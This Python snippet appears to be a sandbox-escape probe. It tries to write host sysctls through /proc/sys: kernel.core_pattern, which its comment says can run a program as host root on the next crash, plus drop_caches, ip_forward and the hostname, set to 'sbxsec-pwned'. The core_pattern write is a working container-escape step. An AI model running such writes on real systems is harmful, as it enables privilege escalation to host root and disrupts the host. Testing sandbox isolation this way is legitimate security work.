# Writing host sysctls: kernel.core_pattern (a pipe runs a program as host root on the next
# crash), vm.drop_caches, net.ipv4.ip_forward. argv: the value to write into core_pattern.
targets = {
    "core_pattern": ("/proc/sys/kernel/core_pattern", ARGS[0].encode()),
    "drop_caches": ("/proc/sys/vm/drop_caches", b"3"),
    "ip_forward": ("/proc/sys/net/ipv4/ip_forward", b"1"),
    "hostname": ("/proc/sys/kernel/hostname", b"sbxsec-pwned"),
}
for key, (path, value) in targets.items():
    o, fd = oserr(os.open, path, os.O_WRONLY)
    RESULT[f"open_{key}"] = o
    if fd is not None:
        RESULT[f"write_{key}"] = oserr(os.write, fd, value)[0]
        os.close(fd)
emit()
